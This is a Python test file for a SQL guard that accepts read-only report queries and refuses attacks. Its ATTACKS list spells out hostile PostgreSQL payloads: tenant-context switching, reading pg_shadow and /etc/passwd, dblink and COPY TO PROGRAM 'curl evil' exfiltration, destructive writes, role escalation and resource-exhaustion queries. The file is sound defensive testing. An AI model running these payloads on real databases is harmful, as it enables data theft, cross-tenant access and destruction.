"""SQL that somebody dictated: what is a plain question passes, and everything else is refused."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from convonet_ari.store.reports import REPORTS
from convonet_ari.tools.sql_guard import Refused, check

pytestmark = pytest.mark.core

QUESTIONS = [
    "SELECT count(*) FROM todos WHERE NOT done",
    "SELECT assignee, count(*) FROM todos WHERE done_at IS NULL GROUP BY assignee ORDER BY 2 DESC LIMIT 5;",
    "SELECT t.name, m.person FROM teams t JOIN team_members m ON m.team = t.name WHERE m.role = 'owner'",
    "SELECT title FROM todos WHERE title ILIKE '%report%' AND due < current_date + 7",
    "SELECT avg(seconds) FROM calls WHERE started_at > now() - interval '7 days'",
    "SELECT date_trunc('day', started_at) AS day, count(*) FROM calls GROUP BY day ORDER BY day",
    "SELECT extract(dow FROM started_at), count(*) FROM calls GROUP BY 1",
    "SELECT started_at AT TIME ZONE 'Europe/Berlin' FROM calls ORDER BY started_at DESC LIMIT 1",
    "WITH busy AS (SELECT assignee, count(*) AS n FROM todos GROUP BY assignee) SELECT max(n) FROM busy",
    "SELECT name FROM people WHERE name NOT IN (SELECT assignee FROM todos WHERE assignee IS NOT NULL)",
    "SELECT CASE WHEN done THEN 'done' ELSE 'open' END AS state, count(*) FROM todos GROUP BY 1",
    "SELECT name, row_number() OVER (ORDER BY created_at) FROM people",
    "SELECT name FROM people UNION SELECT name FROM teams",
    "SELECT due::text, coalesce(assignee, 'nobody') FROM todos WHERE due BETWEEN '2026-01-01' AND now()",
    "SELECT count(*) FILTER (WHERE done) FROM todos -- that is all",
    "TABLE departments",
]

ATTACKS = [
    # another tenant
    "SELECT set_config('app.tenant', '00000000-0000-0000-0000-000000000000', false)",
    "SELECT pg_catalog.set_config('app.tenant', 'x', true) FROM todos",
    "SELECT count(*) FROM todos WHERE set_config('app.tenant', 'x', true) IS NOT NULL",
    "SELECT count(*) FROM todos ORDER BY set_config('app.tenant', 'x', true)",
    "SELECT count(*) FILTER (WHERE set_config('a.b', 'x', true) = 'x') FROM todos",
    "SELECT sum(1) OVER (PARTITION BY set_config('a.b', 'x', true)) FROM todos",
    "SELECT 1 FROM todos LIMIT length(set_config('app.tenant', 'x', true))",
    "SELECT 1 FROM todos JOIN LATERAL (SELECT set_config('app.tenant', 'x', true)) q ON true",
    "SELECT CASE WHEN true THEN set_config('app.tenant', 'x', true) END",
    "SELECT \"set_config\"('app.tenant', 'x', true)",
    "SELECT U&\"set\\005fconfig\"('app.tenant', 'x', true)",
    "SELECT current_setting('app.tenant')",
    "SET app.tenant = 'x'",
    "SET LOCAL row_security = off",
    "RESET ROLE",
    "SET SESSION AUTHORIZATION postgres",
    "SELECT 1; SELECT set_config('app.tenant', 'x', true)",
    "SELECT 1; RESET ROLE; SELECT * FROM convonet.users",
    # tables beneath, catalogues, other schemas
    "SELECT * FROM users",
    "SELECT * FROM convonet.users",
    "SELECT pin_hash FROM people",
    "SELECT * FROM reports.todos",
    "SELECT * FROM threads.checkpoints",
    "SELECT * FROM checkpoints",
    "SELECT * FROM pg_class",
    "SELECT * FROM pg_catalog.pg_authid",
    "SELECT * FROM information_schema.tables",
    "SELECT rolpassword FROM pg_shadow",
    "SELECT * FROM (WITH pg_user AS (SELECT 1 AS a) SELECT a FROM pg_user) q, pg_user",
    "SELECT * FROM (WITH q AS (SELECT 1 AS a) SELECT a FROM q) x, pg_stat_activity",
    "SELECT 'users'::regclass",
    "SELECT CAST('pg_authid' AS regclass)::text",
    "SELECT 'postgres'::regrole",
    "SELECT name::pg_catalog.regproc FROM people",
    "SELECT title::todos.title%TYPE FROM todos",
    "SELECT tableoid FROM todos",
    "SELECT ctid, xmin FROM todos",
    # functions by any road
    "SELECT pg_sleep(10)",
    "SELECT pg_catalog.pg_sleep(10)",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_ls_dir('/')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1, '/x')",
    "SELECT pg_terminate_backend(1)",
    "SELECT pg_advisory_lock(1)",
    "SELECT pg_notify('call_commands', 'x')",
    "SELECT dblink('host=evil', 'SELECT 1')",
    "SELECT query_to_xml('SELECT * FROM convonet.users', true, true, '')",
    "SELECT table_to_xml('convonet.users', true, true, '')",
    "SELECT database_to_xml(true, true, '')",
    "SELECT convonet.call_tenant('00000000-0000-0000-0000-000000000000')",
    "SELECT * FROM convonet.open_calls()",
    "SELECT number_owner('123')",
    "SELECT version()",
    "SELECT inet_server_addr()",
    "SELECT current_user",
    "SELECT session_user",
    "SELECT current_catalog",
    "SELECT txid_current()",
    "SELECT nextval('s')",
    "SELECT random()",
    "SELECT t.row_to_json FROM todos t",
    "SELECT todos.pg_typeof FROM todos",
    "SELECT (t).to_jsonb FROM todos t",
    "SELECT * FROM json_populate_record(NULL::todos, '{}')",
    "SELECT xmlelement(name a)",
    "SELECT 1 OPERATOR(public.+) 1",
    "SELECT 1 OPERATOR(pg_catalog.@@@) 1",
    "SELECT title ~ '(a+)+$' FROM todos",
    "SELECT title SIMILAR TO '%' FROM todos",
    "SELECT title FROM todos ORDER BY title USING ~<~",
    "SELECT 1 = ANY (SELECT 1), 1 OPERATOR(x.=) ANY (SELECT 1)",
    "SELECT sum(seconds) OVER (ORDER BY pg_sleep(1)) FROM calls",
    "SELECT format('%s', title) FROM todos",
    # writing
    "INSERT INTO todos (title) VALUES ('x')",
    "UPDATE todos SET title = 'x'",
    "DELETE FROM todos",
    "MERGE INTO todos USING people ON true WHEN MATCHED THEN DELETE",
    "WITH gone AS (DELETE FROM todos RETURNING title) SELECT * FROM gone",
    "WITH made AS (INSERT INTO todos (title) VALUES ('x') RETURNING title) SELECT * FROM made",
    "WITH w AS (UPDATE todos SET title = 'x' RETURNING title) SELECT title FROM w",
    "SELECT title INTO mine FROM todos",
    "CREATE TABLE mine AS SELECT * FROM todos",
    "CREATE TEMP TABLE todos (title text)",
    "SELECT title FROM todos FOR UPDATE",
    "SELECT title FROM todos FOR KEY SHARE NOWAIT",
    "TRUNCATE todos",
    "DROP VIEW todos",
    "COPY todos TO STDOUT",
    "COPY (SELECT * FROM todos) TO PROGRAM 'curl evil'",
    "COPY todos FROM '/etc/passwd'",
    "GRANT ALL ON todos TO PUBLIC",
    "ALTER ROLE convonet_app SUPERUSER",
    # not a question at all
    "EXPLAIN ANALYZE SELECT 1",
    "EXPLAIN (ANALYZE) DELETE FROM todos",
    "DO $$ BEGIN PERFORM pg_sleep(9); END $$",
    "PREPARE p AS SELECT 1",
    "EXECUTE p",
    "DECLARE c CURSOR WITH HOLD FOR SELECT 1",
    "FETCH ALL FROM c",
    "LISTEN call_commands",
    "NOTIFY call_commands, 'x'",
    "CALL convonet.isolate('users')",
    "LOCK TABLE todos",
    "VACUUM",
    "COMMIT",
    "ROLLBACK; DELETE FROM todos",
    "BEGIN",
    "SHOW ALL",
    "LOAD 'x'",
    "CHECKPOINT",
    "SELECT $1",
    "",
    ";",
    "drop it",
    "SELECT 1\0; DELETE FROM todos",
    "SELECT '\ud800'",
    "\\! ls",
    # keeping the server busy
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
    "SELECT * FROM generate_series(1, 1000000000)",
    "SELECT generate_series(1, 1000000000)",
    "SELECT repeat('x', 1000000000)",
    "SELECT lpad('x', 1000000000)",
    "SELECT count(*) FROM " + ", ".join(f"todos t{n}" for n in range(12)),
    "SELECT " + " || ".join(["title"] * 200) + " FROM todos",
    "SELECT * FROM ROWS FROM (generate_series(1, 9)) x",
    "SELECT * FROM todos TABLESAMPLE SYSTEM (10)",
    "SELECT " + "(" * 1500 + "1" + ")" * 1500,
    "SELECT " + "NOT " * 400 + "true",
    "SELECT " + "(SELECT " * 100 + "1" + ")" * 100,
]


@pytest.mark.parametrize("sql", QUESTIONS)
def test_a_plain_question_passes_unchanged(sql: str) -> None:
    assert check(sql, REPORTS) == sql.rstrip(";")


@pytest.mark.parametrize("sql", ATTACKS, ids=range(len(ATTACKS)))
def test_an_attack_is_refused_in_words_that_can_be_spoken(sql: str) -> None:
    with pytest.raises(Refused) as refused:
        check(sql, REPORTS)
    assert 0 < len(refused.value.spoken) < 200


PIECES = r"""
SELECT FROM todos , ( ) count * name title set_config ' ; -- /* */ WITH AS DELETE INTO users . :: text "
$$ U& E' \ pg_sleep UNION 1 WHERE = convonet FOR UPDATE
"""


@settings(max_examples=300, deadline=None)
@example(";SELECT")
@given(st.one_of(st.text(max_size=60), st.lists(st.sampled_from(PIECES.split()), max_size=16).map(" ".join)))
def test_no_text_whatever_breaks_the_guard_or_names_a_table_beneath(sql: str) -> None:
    try:
        passed = check(sql, REPORTS)
    except Refused:
        return
    assert passed.lstrip().upper().startswith(("SELECT", "WITH", "TABLE", "VALUES", "(", "--", "/*"))
    assert check(passed, REPORTS) == passed
